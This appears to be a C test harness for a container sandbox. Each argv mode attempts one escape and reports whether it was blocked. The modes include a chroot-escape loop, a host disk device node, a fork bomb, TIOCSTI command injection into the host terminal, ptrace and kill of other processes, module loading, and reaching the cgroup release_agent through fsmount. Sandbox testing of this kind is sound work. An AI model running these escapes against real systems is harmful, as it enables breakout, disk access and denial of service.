/* Attacks on the container's walls, one per argv[1]. Each prints what happened and
 * exits 0 when the attack was stopped, 1 when it got through. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <grp.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static int verdict(const char *what, long ret) {
    if (ret < 0) {
        printf("%s: blocked: %s\n", what, strerror(errno));
        return 0;
    }
    printf("%s: ALLOWED\n", what);
    return 1;
}

/* Like verdict, but only a policy's answer (EPERM, EACCES, or seccomp's ENOSYS) counts
 * as blocked: any other error says the attack merely failed here. */
static int refused(const char *what, long ret) {
    if (ret < 0 && errno != EPERM && errno != EACCES && errno != ENOSYS) {
        printf("%s: failed, not refused: %s\n", what, strerror(errno));
        return 1;
    }
    return verdict(what, ret);
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "keyctl")) /* KEYCTL_GET_KEYRING_ID of the session keyring */
        return verdict("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    if (!strcmp(mode, "add_key"))
        return verdict("add_key", syscall(SYS_add_key, "user", "k", "v", 1, -3));
    if (!strcmp(mode, "bpf")) { /* BPF_MAP_CREATE with an empty attr */
        char attr[128] = {0};
        return verdict("bpf", syscall(SYS_bpf, 0, attr, sizeof attr));
    }
    if (!strcmp(mode, "vsock")) { /* AF_VSOCK (40): a channel past the network namespace */
        long fd = socket(40, SOCK_STREAM, 0);
        if (fd < 0 && errno != EPERM) { /* not a policy refusal: the kernel has no vsock */
            printf("vsock: unavailable: %s\n", strerror(errno));
            return 2;
        }
        return verdict("vsock socket", fd);
    }
    if (!strcmp(mode, "x32")) /* getpid through the x32 ABI */
        return verdict("x32 getpid", syscall(39 | 0x40000000));
    if (!strcmp(mode, "module")) {
        int fd = open("/bin/busybox", O_RDONLY);
        int a = verdict("finit_module", syscall(SYS_finit_module, fd, "", 0));
        int b = verdict("init_module", syscall(SYS_init_module, "", 0, ""));
        int c = verdict("delete_module", syscall(SYS_delete_module, "loop", 0));
        return a | b | c;
    }
    if (!strcmp(mode, "mount")) {
        int a = verdict("mount tmpfs", mount("none", "/tmp", "tmpfs", 0, NULL));
        int b = verdict("unshare mount ns", unshare(CLONE_NEWNS));
        int c = verdict("unshare user ns", unshare(CLONE_NEWUSER));
        int d = verdict("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
        int e = verdict("umount /proc/keys", umount2("/proc/keys", MNT_DETACH));
        return a | b | c | d | e;
    }
    if (!strcmp(mode, "fsmount")) {
        /* The new mount API, past Landlock's mount(2) block: a detached mount used
         * through its fd, never attached. First a tmpfs; then, to show what it reaches,
         * the host's cgroup v1 pids hierarchy, whose root holds the release_agent the
         * host runs as root (only looked at, nothing is written). */
        int fs = fsopen("tmpfs", FSOPEN_CLOEXEC);
        if (fs < 0)
            return refused("fsopen tmpfs", fs) |
                   refused("open_tree clone", open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE));
        if (fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0 ||
            fsmount(fs, FSMOUNT_CLOEXEC, 0) < 0)
            return refused("fsmount tmpfs", -1);
        printf("fsmount tmpfs: ALLOWED\n");
        int cg = fsopen("cgroup", FSOPEN_CLOEXEC);
        fsconfig(cg, FSCONFIG_SET_FLAG, "pids", NULL, 0);
        int mnt = fsconfig(cg, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0 ? -1 : fsmount(cg, FSMOUNT_CLOEXEC, 0);
        if (mnt < 0)
            printf("cgroup v1 pids: %s\n", strerror(errno));
        else
            printf("cgroup v1 pids: ALLOWED, release_agent %s\n",
                   faccessat(mnt, "release_agent", F_OK, 0) == 0 ? "reached" : "not at this cgroup");
        return 1;
    }
    if (!strcmp(mode, "ptrace") && argc > 2) {
        int pid = atoi(argv[2]);
        return verdict("ptrace attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
    }
    if (!strcmp(mode, "signal") && argc > 2)
        return verdict("kill", kill(atoi(argv[2]), SIGKILL));
    if (!strcmp(mode, "rlimit")) {
        struct rlimit r;
        getrlimit(RLIMIT_NOFILE, &r);
        if (r.rlim_max == RLIM_INFINITY) {
            printf("rlimit: hard limit is unlimited, nothing to raise\n");
            return 1;
        }
        r.rlim_max += 1;
        return verdict("raise nofile", setrlimit(RLIMIT_NOFILE, &r));
    }
    if (!strcmp(mode, "disk") && argc > 3) {
        /* make a node for the host's disk, then open it */
        unsigned maj = atoi(argv[2]), min = atoi(argv[3]);
        int a = verdict("mknod disk", mknod("/tmp/disk", S_IFBLK | 0600, makedev(maj, min)));
        int b = verdict("open disk", open("/tmp/disk", O_RDONLY));
        return a | b;
    }
    if (!strcmp(mode, "chroot") && argc > 2) {
        /* the classic escape: chroot into a subdirectory, keep a cwd outside it,
         * climb with .., chroot there, and look for a file only the host has */
        mkdir("/tmp/jail", 0755);
        int dir = open("/", O_RDONLY | O_DIRECTORY);
        if (chroot("/tmp/jail") < 0) {
            printf("chroot: %s\n", strerror(errno));
        } else {
            fchdir(dir);
            for (int i = 0; i < 256; i++)
                chdir("..");
            chroot(".");
        }
        struct stat st;
        int found = stat(argv[2], &st) == 0;
        printf("host marker %s: %s\n", argv[2], found ? "ALLOWED (reached)" : "blocked (not found)");
        return found;
    }
    if (!strcmp(mode, "forkbomb")) {
        /* fork until the kernel says no; children wait to be killed */
        int n = 0;
        for (; n < 100000; n++) {
            pid_t p = fork();
            if (p < 0) {
                printf("forkbomb: blocked after %d forks: %s\n", n, strerror(errno));
                return 0;
            }
            if (p == 0) {
                pause();
                _exit(0);
            }
        }
        printf("forkbomb: ALLOWED %d forks\n", n);
        return 1;
    }
    if (!strcmp(mode, "exe")) {
        /* is the binary behind /proc/1/exe reachable, and writable? */
        int a = verdict("open /proc/1/exe", open("/proc/1/exe", O_PATH));
        int b = verdict("readlink /proc/1/exe", readlink("/proc/1/exe", (char[256]){0}, 256));
        return a | b;
    }
    if (!strcmp(mode, "selfexe")) {
        /* run as the launcher binary's interpreter: /proc/self/exe is the launcher */
        int fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);
        struct statvfs st;
        if (fd < 0 || fstatvfs(fd, &st) < 0) {
            printf("selfexe: %s\n", strerror(errno));
            return 1;
        }
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int w = open(path, O_WRONLY);
        printf("selfexe: read-only mount: %s; open for writing: %s\n",
               st.f_flag & ST_RDONLY ? "yes" : "no", w < 0 ? strerror(errno) : "ALLOWED");
        return !(st.f_flag & ST_RDONLY) || w >= 0;
    }
    if (!strcmp(mode, "tiocsti")) {
        /* push a command into the input of the terminal our stdout is (the host's) */
        const char *line = "echo INJECTED\n";
        int ret = 0;
        for (const char *c = line; *c && ret == 0; c++)
            ret = ioctl(1, TIOCSTI, c);
        return verdict("TIOCSTI into the host's terminal", ret);
    }
    if (!strcmp(mode, "setgroups")) {
        gid_t none[1] = {0};
        return verdict("setgroups", setgroups(0, none));
    }
    fprintf(stderr, "unknown attack %s\n", mode);
    return 2;
}
